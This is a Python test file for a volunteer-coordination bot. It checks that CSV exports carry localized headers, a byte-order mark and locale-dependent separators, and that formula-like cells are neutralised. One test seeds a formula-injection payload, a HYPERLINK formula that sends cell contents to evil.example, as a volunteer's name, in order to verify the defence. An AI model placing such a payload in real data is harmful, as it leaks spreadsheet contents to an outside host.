"""Coordinators export tables that open right in their spreadsheet program, in their language,
and that cannot run a formula someone typed as their name."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from bot.app import App
from bot.core.i18n import use_locale
from bot.core.spreadsheet import delimiter, neutralise
from db.models import VolunteerProfile
from lotse.demo import load_demo
from tests.support import Conversation, onboard, t, tn

ORG_INTENT = "I act for an initiative or organisation"


def table(content: bytes, separator: str) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would not read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=separator))


async def test_a_german_coordinator_gets_a_german_table(chat: Conversation, app: App) -> None:
    await load_demo(app.session_factory, now=app.services.clock())
    await onboard(chat, "carla", "de", ORG_INTENT)
    await chat.say("carla", "/admin")
    seen = await chat.press("carla", t("de", "Export volunteers"))
    assert seen[0].text == tn(
        "de",
        "Export of {what}: {count} row.",
        "Export of {what}: {count} rows.",
        30,
        what=t("de", "volunteers"),
        count=30,
    )
    attachment = seen[0].message.attachment
    assert attachment is not None
    rows = table(attachment.content, ";")  # German Excel splits on ";" (its decimal sign is ",")
    assert rows[0][:5] == ["Vorname", "Stadtteil", "Postleitzahl", "Tätigkeiten", "Sprachen"]
    assert len(rows) == 31 and all(len(row) == 8 for row in rows)
    cells = [cell for row in rows[1:] for cell in row]
    assert any("Arabisch (Muttersprache oder fließend)" in cell for cell in cells)
    assert not any(":native" in cell or cell in ("active", "regular") for cell in cells)
    assert "aktiv" in cells
    seen = await chat.press("carla", t("de", "Export needs"))
    rows = table(seen[0].message.attachment.content, ";")  # type: ignore[union-attr]
    assert "Status" in rows[0] and "status" not in rows[0]
    assert not any(cell in ("open", "date", "regular") for row in rows for cell in row)


async def test_an_english_coordinator_gets_commas(chat: Conversation, app: App) -> None:
    await load_demo(app.session_factory, now=app.services.clock())
    await onboard(chat, "carla", "en", ORG_INTENT)
    await chat.say("carla", "/admin")
    seen = await chat.press("carla", "Export organisations")
    rows = table(seen[0].message.attachment.content, ",")  # type: ignore[union-attr]
    assert rows[0] == ["Name", "Kind", "District", "Contact", "Website", "Status", "Members"]
    assert any(row[1] == "Job centre" for row in rows)


async def test_a_volunteer_named_like_a_formula_stays_text(chat: Conversation, app: App) -> None:
    await load_demo(app.session_factory, now=app.services.clock())
    async with app.session_factory() as session:
        profile = await session.scalar(select(VolunteerProfile).limit(1))
        assert profile is not None
        profile.first_name = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
        profile.district = "@SUM(1+1)"
        await session.commit()
    await onboard(chat, "carla", "de", ORG_INTENT)
    await chat.say("carla", "/admin")
    seen = await chat.press("carla", t("de", "Export volunteers"))
    rows = table(seen[0].message.attachment.content, ";")  # type: ignore[union-attr]
    row = next(r for r in rows if "HYPERLINK" in r[0])
    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1;"Klick")'
    assert row[1] == "'@SUM(1+1)"
    assert not any(cell[:1] in ("=", "+", "-", "@") for r in rows for cell in r)


def test_cells_that_spreadsheets_would_run_get_an_apostrophe() -> None:
    for dangerous in ("=1+1", "+49 171", "-2+3", "@SUM(A1)", "\tX", "\rX"):
        assert neutralise(dangerous) == "'" + dangerous
    assert neutralise("Amira") == "Amira" and neutralise(None) == ""


def test_the_separator_follows_the_decimal_sign() -> None:
    assert [delimiter(code) for code in ("de", "en", "ar", "uk", "fa", "tr", "ru")] == [
        ";",
        ",",
        ",",
        ";",
        ",",
        ";",
        ";",
    ]
    with use_locale("ru"):
        assert delimiter() == ";"
